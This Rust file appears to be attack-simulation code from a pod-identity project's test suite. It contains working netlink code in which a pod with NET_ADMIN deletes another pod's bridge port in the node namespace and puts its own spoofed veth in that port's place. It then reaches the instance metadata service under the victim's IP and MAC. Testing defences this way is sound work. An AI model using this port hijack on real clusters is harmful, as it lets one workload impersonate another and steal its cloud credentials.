//! Taking another pod's port, as a process with NET_ADMIN in the node's user namespace could: the far
//! end of its own link gives it a number for the node's namespace, and the kernel lets it delete links
//! there and move links of its own to there.

use std::net::Ipv4Addr;

use anyhow::{Context, Result};
use nlink::netlink::addr::Ipv4Address;
use nlink::netlink::link::VethLink;
use nlink::netlink::message::{NLM_F_ACK, NLM_F_REQUEST, NlMsgError};
use nlink::netlink::neigh::Neighbor;
use nlink::netlink::route::Ipv4Route;
use nlink::netlink::types::{IfInfoMsg, IflaAttr};
use nlink::netlink::{
    Connection, MessageBuilder, MessageIter, NetlinkSocket, NlMsgType, Protocol, Route,
};

use podid_netfilter::IMDS;

use super::frames::Mac;
use super::pod::Pod;
use super::test_node::TestNode;

/// The attacker's number for the namespace behind its own link, which is the first that it has.
const NODE: u32 = 0;
/// The attribute that says in which namespace a request is to be carried out; the kernel's name for
/// it is `IFLA_TARGET_NETNSID`.
const IN_NAMESPACE: u16 = IflaAttr::IfNetnsid as u16;
/// The link that goes to the node, and the one that is left to the attacker.
const ENDS: [&str; 2] = ["outside", "stolen"];

impl Pod {
    /// Puts a link of this pod's own making in the place of the victim's port: same index, same bridge,
    /// and at its other end the victim's MAC and address. The victim has no link any more.
    ///
    /// # Errors
    /// When the kernel refuses.
    pub fn take_port(&self, test_node: &TestNode, victim: &Pod) -> Result<()> {
        let mac: Mac = victim.mac(test_node)?.as_slice().try_into()?;
        test_node.block_on(async {
            let node = Connection::<Route>::new_in(test_node.namespace())?;
            let name = victim.port();
            let port = node.get_link_by_name(&name).await?.context("a port")?;
            let bridge = port.master().context("a port of a bridge")?;
            let own = Connection::<Route>::new_in(self.namespace())?;
            let outside = self.prepare(&own, mac, victim.address).await?;
            let mut gone = MessageBuilder::new(NlMsgType::RTM_DELLINK, NLM_F_REQUEST | NLM_F_ACK);
            gone.append(&IfInfoMsg::new().with_index(i32::try_from(port.ifindex())?));
            gone.append_attr_u32(IN_NAMESPACE, NODE);
            self.request(gone).await?;
            let mut moved = MessageBuilder::new(NlMsgType::RTM_SETLINK, NLM_F_REQUEST | NLM_F_ACK);
            let mut up = IfInfoMsg::new().with_index(i32::try_from(outside)?);
            (up.ifi_flags, up.ifi_change) = (1, 1);
            moved.append(&up);
            moved.append_attr_u32(IN_NAMESPACE, NODE);
            moved.append_attr_u32(IflaAttr::NewIfindex as u16, port.ifindex());
            moved.append_attr_u32(IflaAttr::Master as u16, bridge);
            self.request(moved).await
        })?;
        self.call_through(test_node, victim.address)
    }

    /// Sends the pod's calls through the stolen port, with the victim's address as theirs.
    fn call_through(&self, test_node: &TestNode, address: Ipv4Addr) -> Result<()> {
        let gateway = test_node.network.pod_range().gateway();
        // It may have changed: a bridge without a MAC of its own has the lowest of its ports'.
        let mac = test_node.bridge_mac()?;
        test_node.block_on(async {
            let own = Connection::<Route>::new_in(self.namespace())?;
            let neighbor = Neighbor::new_v4(ENDS[1], gateway).lladdr(mac);
            own.replace_neighbor(neighbor.permanent()).await?;
            let route = Ipv4Route::new(IMDS, 32).gateway(gateway).dev(ENDS[1]);
            own.add_route(route.prefsrc(address).onlink()).await?;
            Ok(())
        })
    }

    /// Both ends of a new link, the inner one with what the victim's has. Returns the outer's index.
    async fn prepare(&self, own: &Connection<Route>, mac: Mac, address: Ipv4Addr) -> Result<u32> {
        let [outside, stolen] = ENDS;
        own.add_link(VethLink::new(outside, stolen)).await?;
        own.set_link_address(stolen, mac).await?;
        own.add_address(Ipv4Address::new(stolen, address, 32))
            .await?;
        own.set_link_up(stolen).await?;
        let link = own.get_link_by_name(outside).await?;
        Ok(link.context("the link just made")?.ifindex())
    }

    /// One request, and the kernel's word on it.
    async fn request(&self, mut message: MessageBuilder) -> Result<()> {
        let socket = NetlinkSocket::new_in_namespace_path(Protocol::Route, self.namespace())?;
        message.set_seq(socket.next_seq());
        message.set_pid(socket.pid());
        socket.send(&message.finish()).await?;
        let answer = socket.recv_msg().await?;
        for part in MessageIter::new(&answer) {
            let (header, payload) = part?;
            if header.is_error() {
                let error = NlMsgError::from_bytes(payload)?;
                anyhow::ensure!(error.is_ack(), "{}", error.into_error(payload));
            }
        }
        Ok(())
    }
}
